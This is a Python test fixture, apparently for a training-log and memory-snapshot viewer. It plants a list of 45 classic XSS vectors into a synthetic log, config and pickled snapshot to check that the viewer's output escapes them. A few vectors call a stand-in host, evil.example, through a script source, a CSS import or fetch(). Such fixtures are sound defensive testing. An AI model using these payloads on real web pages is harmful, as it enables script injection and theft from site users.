"""Hostile inputs: classic script-injection vectors planted by code in real corpus inputs.

``XSS_PAYLOADS`` are the classic vectors (script tags, event handlers, ``javascript:`` URLs,
SVG/MathML, ``<iframe srcdoc>``, attribute breakouts, template-literal and JS-string breakouts,
CSS ``expression``/``url(javascript:)``, ``</style>``, ``</textarea>``, encoding tricks).  Each
calls ``alert``/``prompt``/``confirm``/``print``/``fetch`` (which the browser tests trap) and
carries its own marker ``XSS<n>`` so a test can tell which one ran.

``hostile_run(folder)`` writes a run directory made from the corpus' ``fragmentation`` case:
its log with every payload in step lines, traceback frame file names and function names, the
OOM message and a second exception's text; a ds_config with payloads in keys and values; and
its snapshot with every frame's name and file name replaced by payloads.
"""

from __future__ import annotations

import json
import pickle
from pathlib import Path
from typing import Any

from tests._corpus import case_dir

_VECTORS = [
    "<script>alert('{m}')</script>",
    "<SCRIPT SRC=//evil.example/{m}.js></SCRIPT>",
    "<img src=x onerror=alert('{m}')>",
    "<svg onload=alert('{m}')>",
    "<svg><script>alert('{m}')</script></svg>",
    "<body onload=alert('{m}')>",
    "<iframe srcdoc=\"<script>parent.alert('{m}')</script>\"></iframe>",
    "<iframe src=javascript:alert('{m}')>",
    "<a href=\"javascript:alert('{m}')\">click {m}</a>",
    "\"><script>alert('{m}')</script>",
    "'><img src=x onerror=prompt('{m}')>",
    '" onmouseover="alert(\'{m}\')" x="',
    "' autofocus onfocus='confirm(\"{m}\")' x='",
    "</title><script>alert('{m}')</script>",
    "</style><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "</script><script>alert('{m}')</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<math href=\"javascript:alert('{m}')\">{m}</math>",
    "<svg><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    "<details open ontoggle=alert('{m}')>",
    "<video><source onerror=alert('{m}')></video>",
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<embed src=\"javascript:alert('{m}')\">",
    "<div style=\"width:expression(alert('{m}'))\">{m}</div>",
    "<div style=\"background:url(javascript:alert('{m}'))\">{m}</div>",
    "<style>@import 'http://evil.example/{m}.css';</style>",
    "${{alert('{m}')}}",
    "`;alert('{m}');`",
    "';alert('{m}');//",
    "\\\";alert('{m}');//",
    "{{{{constructor.constructor('alert(\"{m}\")')()}}}}",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(\'{m}\')">',
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    '<svg><a xlink:href="javascript:alert(\'{m}\')"><text x="20" y="20">{m}</text></a></svg>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    "<base href=\"javascript:alert('{m}')//\">",
    "<form action=\"javascript:alert('{m}')\"><input type=submit value={m}></form>",
    "<img src=x onerror=fetch('//evil.example/{m}')>",
    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
    "<a href=\"jav&#x09;ascript:alert('{m}')\">tab {m}</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data {m}</a>',
    "\u202e<script>alert('{m}')</script>\u202d",
    "\uff1cscript\uff1ealert('{m}')\uff1c/script\uff1e",
    "<img src=x onerror=print('{m}')>",
]
XSS_PAYLOADS: list[str] = [v.format(m=f"XSS{i}") for i, v in enumerate(_VECTORS)]


def _log_lines(payloads: list[str]) -> list[str]:
    """The fragmentation log with payloads in step lines, frames and the OOM message."""
    lines = (case_dir("fragmentation") / "train.log").read_text().splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("Traceback"))
    head, traceback = lines[:start], lines[start:]
    steps = [f"step {i + 1} loss 2.{i:04d} {p}" for i, p in enumerate(payloads)]
    frames = []
    for i, p in enumerate(payloads):
        frames.append(f'  File "/home/user/{p}/train_{i}.py", line {i + 1}, in {p}')
        frames.append(f"    model({i})")
    *frames_before, oom_line = traceback
    oom_line = oom_line.replace(
        "Tried to allocate 42.00 MiB.", "Tried to allocate 42.00 MiB. " + " ".join(payloads[:3])
    )
    other = [
        "Traceback (most recent call last):",
        '  File "/home/user/eval.py", line 3, in <module>',
        "ValueError: " + " | ".join(payloads),
    ]
    return head + steps + other + frames_before[:1] + frames + frames_before[1:] + [oom_line]


def _hostile_config(payloads: list[str]) -> dict[str, Any]:
    config: dict[str, Any] = {
        "train_micro_batch_size_per_gpu": 2,
        "gradient_accumulation_steps": 1,
        "optimizer": {"type": payloads[0], "params": {"lr": payloads[1]}},
        "zero_optimization": {
            "stage": 3,
            "offload_param": {"device": "none", "nvme_path": payloads[2]},
        },
    }
    config.update({p: p for p in payloads})
    return config


def _replace_frames(value: Any, payloads: list[str], counter: list[int]) -> Any:
    """The snapshot with every frame's ``name`` and ``filename`` replaced by payloads in turn."""
    if isinstance(value, dict):
        if "filename" in value and "name" in value and "line" in value:
            index = counter[0] % len(payloads)
            counter[0] += 1
            return {
                **value,
                "filename": f"/home/user/{payloads[index]}/model.py",
                "name": payloads[(index + 1) % len(payloads)],
            }
        return {k: _replace_frames(v, payloads, counter) for k, v in value.items()}
    if isinstance(value, list):
        return [_replace_frames(v, payloads, counter) for v in value]
    return value


def hostile_run(folder: Path, payloads: list[str] = XSS_PAYLOADS) -> Path:
    """Write the hostile run directory (see the module docstring) and return it."""
    from oomlens.ingest.snapshot.unpickler import restricted_load

    folder.mkdir(parents=True, exist_ok=True)
    (folder / "train.log").write_text("\n".join(_log_lines(payloads)) + "\n")
    (folder / "ds_config.json").write_text(json.dumps(_hostile_config(payloads), indent=2))
    snapshot = restricted_load(case_dir("fragmentation") / "snapshot_rank0.pickle").data
    hostile = _replace_frames(snapshot, payloads, [0])
    (folder / "snapshot_rank0.pickle").write_bytes(pickle.dumps(hostile, protocol=4))
    return folder
